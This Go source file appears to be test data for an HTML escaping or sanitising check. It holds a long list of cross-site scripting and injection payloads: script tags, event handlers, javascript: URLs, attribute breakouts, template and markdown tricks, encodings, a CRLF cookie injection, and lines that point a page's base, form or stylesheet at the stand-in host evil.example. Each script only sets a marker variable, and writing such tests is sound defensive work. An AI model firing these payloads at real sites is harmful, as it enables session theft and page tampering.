package main

// payloads are texts that would run a script, load something or change the page if any page took them for markup. A script of
// theirs sets window.hit. Each is short enough to be shown whole where lists cut texts.
var payloads = []string{
	// elements that run
	`<script>hit=1</script>`, `<ScRiPt>hit=1</sCrIpT>`, `<script/x>hit=1</script >`, `<script src=data:,hit=1></script>`,
	`<script type=module>window.hit=1</script>`, "<script\n>hit=1</script>", `<<script>hit=1//<</script>`, `<script>hit=1`,
	// handlers
	`<img src=x onerror=hit=1>`, `<img/src=x/onerror=hit=1>`, `<img src=x onerror="hit=1"//`, "<img\tsrc=x\tonerror=hit=1>",
	`<body onload=hit=1>`, `<input autofocus onfocus=hit=1>`, `<details open ontoggle=hit=1>`, `<video><source onerror=hit=1></video>`,
	`<audio src=x onerror=hit=1>`, `<marquee onstart=hit=1>`, `<style onload=hit=1></style>`, `<div onanimationstart=hit=1 class=typing>`,
	`<b onpointerenter=hit=1 style=position:fixed;inset:0>x</b>`, `<select autofocus onfocus=hit=1><option>x</select>`,
	// SVG and MathML
	`<svg onload=hit=1>`, `<svg><script>hit=1</script></svg>`, `<svg><animate onbegin=hit=1 attributeName=x dur=1s>`,
	`<svg><a xlink:href="javascript:hit=1"><text y=9>x</text></a></svg>`, `<svg><style><img src=x onerror=hit=1></style>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=hit=1>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=hit=1>#x">`,
	// addresses that run
	`javascript:hit=1`, `JaVaScRiPt:hit=1`, "java\tscript:hit=1", " \x01javascript:hit=1", `javascript://%0ahit=1`,
	`data:text/html,<script>hit=1</script>`, `vbscript:hit=1`, `<a href="javascript:hit=1">x</a>`, `<form action=javascript:hit=1><button>x`,
	`//evil.example/x`, `\\evil.example\x`,
	// the end of an attribute or an element of the page
	`"><img src=x onerror=hit=1>`, `'><img src=x onerror=hit=1>`, `" autofocus onfocus=hit=1 x="`, `' onmouseover=hit=1 x='`,
	"` onmouseover=hit=1 x=`", `</title><script>hit=1</script>`, `</textarea><script>hit=1</script>`, `</script><script>hit=1</script>`,
	`</style><img src=x onerror=hit=1>`, `</noscript><img src=x onerror=hit=1>`, `</main></body></html><script>hit=1</script>`,
	`--><img src=x onerror=hit=1>`, `]]><img src=x onerror=hit=1>`, `<!--><img src=x onerror=hit=1>-->`,
	`</template><script>hit=1</script>`, `</select><img src=x onerror=hit=1>`, `</bdi></p></td></table><img src=x onerror=hit=1>`,
	// what loads or changes the page
	`<iframe srcdoc="<script>parent.hit=1</script>">`, `<iframe src=javascript:parent.hit=1>`, `<object data=javascript:hit=1>`,
	`<embed src=javascript:hit=1>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example/">`,
	`<link rel=stylesheet href=//evil.example/x.css>`, `<style>body{display:none}</style>`, `<form action=//evil.example><input name=x>`,
	`<div id=facts data-events=//evil.example>`, `<template shadowrootmode=open><script>hit=1</script>`, `<button popovertarget=menu>x`,
	// templates and programs
	`{{.}} {{printf "%s" "x"}} {{template "turns"}}`, `${hit=1} #{hit=1} <%= hit=1 %>`, `{{constructor.constructor("hit=1")()}}`,
	`";hit=1;//`, `'-(hit=1)-'`, `\";hit=1;//`, `\u003cscript\u003ehit=1\u003c/script\u003e`, `"},"html":"<img src=x onerror=hit=1>","x":{"`,
	// markdown
	`[x](javascript:hit=1)`, `[x](java&#115;cript:hit=1)`, `![x](x"onerror="hit=1)`, `<javascript:hit=1>`, `[x](data:text/html,<script>hit=1</script>)`,
	`[x](https://a.example "t\" onmouseover=hit=1 y=\"")`, "```\"><img src=x onerror=hit=1>\nx\n```", `[![x](x)](javascript:hit=1)`,
	`|a|<img src=x onerror=hit=1>|`, `https://a.example/"onmouseover="hit=1`, `[x]: javascript:hit=1`,
	// entities and encodings
	`&lt;img src=x onerror=hit=1&gt;`, `&#60;script&#62;hit=1&#60;/script&#62;`, `&lt&semi;script&gt;hit=1`, `%3Cscript%3Ehit=1%3C/script%3E`,
	`+ADw-script+AD4-hit=1+ADw-/script+AD4-`, "\xef\xbc\x9cscript\xef\xbc\x9ehit=1", "\xc0\xbcscript\xc0\xbehit=1", "<scr\x00ipt>hit=1</scr\x00ipt>",
	// characters that steer a screen or a protocol
	"\u202e<script>hit=1</script>\u2066", "\u200b<img src=x onerror=hit=1>\ufeff", "a\r\nSet-Cookie: arizuko=x\r\n\r\n<script>hit=1</script>",
	"x\ndata: {\"html\":\"<img src=x onerror=hit=1>\"}\n\n", "\x1b[2J\x1b]0;x\x07<b>hit</b>", "a\u2028hit=1\u2029b", "A\u030a\u0301\u0327<i>\u0489",
}
